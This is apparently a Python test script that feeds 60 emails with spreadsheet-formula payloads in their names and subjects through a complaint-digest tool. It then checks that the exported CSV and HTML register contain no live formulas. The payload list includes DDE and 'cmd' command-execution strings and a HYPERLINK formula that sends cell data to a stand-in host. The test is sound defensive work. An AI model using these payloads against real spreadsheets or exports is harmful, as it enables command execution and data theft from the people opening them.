#!/usr/bin/python3
"""60 letters whose names and subjects are spreadsheet formulas, through the digest's register (RELIABILITY A34); TAP.

The register is read as a program reads it: CSV by the comma and, since a spreadsheet of another locale does so, by
the semicolon and the tab; HTML by its cells. No cell may begin with what a spreadsheet takes for a formula, whatever
blanks stand before it. Then LibreOffice opens both files without a screen and no cell of them is a formula: that part
is skipped, and counted as skipped, where it is not installed.
"""
import csv, email, email.policy, html.parser, io, os, re, shutil, sqlite3, subprocess, sys, tempfile, zipfile
from email.header import Header

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BBT = os.path.abspath(os.environ.get("BBT", "build/bbt"))
NOW, MONDAY = "2026-11-20T09:00:00+07:00", "2026-11-23T09:00:00+07:00"

CORE = ["1+1", "HYPERLINK(\"http://e.example/?x=\"&A1,\"xem\")", "cmd|' /C calc'!A0", "WEBSERVICE(\"http://e.example\")",
        "SUM(1;2)", "DDE(\"cmd\";\"/C calc\";\"x\")"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
LEADS = ["", " ", "\u00a0", "\u200b", "\u3000", "\ufeff", "\"", "'", "a;", ";", "\t", "\u2028"]
PAYLOADS = [s + CORE[i % len(CORE)] for i, s in enumerate(SIGNS * 3)]
PAYLOADS += [lead + SIGNS[i % len(SIGNS)] + CORE[i % len(CORE)] for i, lead in enumerate(LEADS * 2)]
PAYLOADS += ["|calc", "%0A=1+1", "\u2212" + "2+3", "==1", "=\t1", "'=1+1", "\"=1+1", "{=1+1}", "<b>=1+1</b>", "</td><td>=1+1",
             "=1+1\",\"=2+2", "x;=1;=2"]
assert len(PAYLOADS) == 60
FORMULA = re.compile("^[\\s\u00a0\u2000-\u200f\u202f\u2060\u3000\ufeff\"]*[=+\\-@|%\uff1d\uff0b\uff0d\uff20\u2212]")

count, failed = 0, 0


def tell(good, text, notes=(), skip=None):
    global count, failed
    count += 1
    failed += not good
    print("%s %d - %s%s" % ("ok" if good else "not ok", count, text, " # SKIP " + skip if skip else ""))
    for note in list(notes)[:12]:
        print("# " + repr(note))
    sys.stdout.flush()


def run(house, *words, now=NOW):
    r = subprocess.run([BBT, *(["--house", house] if words[0] != "init" else []), "--now", now, *words], capture_output=True)
    if r.returncode:
        sys.exit("bbt %s: %s" % (words[0], r.stderr.decode()))
    return r.stdout


def letter(number, payload):
    """The payload is the name and the subject: encoded words carry what a header may not hold as it stands."""
    word = Header(payload, "utf-8").encode()
    return ("Received: from out.example.net (out.example.net [192.0.2.7]) by mx.mic.gov.vn with ESMTPS id 1;\r\n"
            "\tFri, 20 Nov 2026 08:30:00 +0700\r\nFrom: %s <nguoi%d@example.net>\r\nTo: banbientap@mic.gov.vn\r\nSubject: %s\r\n"
            "Date: Fri, 20 Nov 2026 08:29:00 +0700\r\nMessage-ID: <f%d@example.net>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nTôi là Trần Văn Dân số %d, làm đơn khiếu nại "
            "quyết định số 09/QĐ-XPHC xử phạt vi phạm hành chính đối với tôi. Tôi không đồng ý với quyết định này vì trái quy định. "
            "Đề nghị xem xét lại và hủy quyết định nói trên.\r\n" % (word, number, word, number, number)).encode()


class Cells(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.cells, self.open = [], False

    def handle_starttag(self, tag, attrs):
        if tag in ("td", "th", "caption", "title", "h1"):
            self.cells.append("")
            self.open = True

    def handle_endtag(self, tag):
        self.open = self.open and tag not in ("td", "th", "caption", "title", "h1")

    def handle_data(self, data):
        if self.open:
            self.cells[-1] += data


def attachments(house):
    raw, = sqlite3.connect(os.path.join(house, "case.db")).execute("SELECT bytes FROM outbox WHERE key LIKE 'digest/%'").fetchone()
    return {p.get_filename().rsplit(".", 1)[1]: p.get_payload(decode=True)
            for p in email.message_from_bytes(raw, policy=email.policy.default).iter_attachments()}


def check_cells(found):
    text = found["csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    tell(len(rows) == 61 and all(len(r) == 9 for r in rows), "the CSV has 60 rows of 9 cells", [len(r) for r in rows if len(r) != 9])
    for name, between in (("comma", ","), ("semicolon", ";"), ("tab", "\t")):
        cells = [c for r in csv.reader(io.StringIO(text), delimiter=between) for c in r]
        bad = [c for c in cells if FORMULA.match(c)]
        tell(not bad, "CSV read by the %s: %d cells, none begins a formula" % (name, len(cells)), bad)
    bad = [l for l in text.splitlines() if not l.lstrip("\ufeff").startswith('"') or not l.endswith('"')]
    tell(not bad, "each line begins and ends with a quoted cell", bad)
    parser = Cells()
    parser.feed(found["html"].decode())
    bad = [c for c in parser.cells if FORMULA.match(c)]
    tell(len(parser.cells) == 61 * 9 + 3 and not bad, "HTML: %d cells, none begins a formula" % len(parser.cells), bad)


def formulas_of(office, base, kind, data):
    """The formulas that LibreOffice finds in the file, and the content it made of it; None when it made nothing."""
    path, ods = os.path.join(base, "register." + kind), os.path.join(base, "register.ods")
    with open(path, "wb") as f:
        f.write(data)
    read = ["--infilter=CSV:44,34,76,1"] if kind == "csv" else ["--infilter=HTML (StarCalc)"]
    subprocess.run([office, "-env:UserInstallation=file://%s/profile" % base, "--headless", *read, "--convert-to", "ods", "--outdir", base,
                    path], capture_output=True, timeout=300)
    if not os.path.exists(ods):
        return None, ""
    with zipfile.ZipFile(ods) as z:
        content = z.read("content.xml").decode()
    os.unlink(ods)
    return re.findall(r'table:formula="[^"]*"', content), content


def check_office(found, base):
    office = shutil.which("soffice") or shutil.which("libreoffice")
    naked = {"csv": b"ref\r\n=1+1\r\n", "html": b"<table><tr><td>=1+1</td></tr></table>"}
    for kind in ("csv", "html"):
        if not office:
            tell(True, "LibreOffice reads the %s and finds no formula" % kind, skip="LibreOffice is not installed")
            continue
        control = formulas_of(office, base, kind, naked[kind])[0]
        tell(control is not None and (control or kind == "html"), "LibreOffice finds %s formulas in a bare %s" %
             (None if control is None else len(control), kind))
        formulas, content = formulas_of(office, base, kind, found[kind])
        tell(formulas == [] and "BBT-2026-000060" in content, "LibreOffice reads the %s of the register: %s formulas" %
             (kind, None if formulas is None else len(formulas)), formulas or [])


def main():
    base = tempfile.mkdtemp(prefix="bbt-formulas-")
    try:
        house, letters = os.path.join(base, "house"), os.path.join(base, "letters")
        run(house, "init", house, "--profile", "mic", "--trial")
        os.mkdir(letters)
        for number, payload in enumerate(PAYLOADS):
            with open(os.path.join(letters, "%02d.eml" % number), "wb") as f:
                f.write(letter(number, payload))
        run(house, "ingest", letters)
        run(house, "digest", "complaints", now=MONDAY)
        found = attachments(house)
        check_cells(found)
        check_office(found, base)
    finally:
        shutil.rmtree(base, ignore_errors=True)
    print("1..%d" % count)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
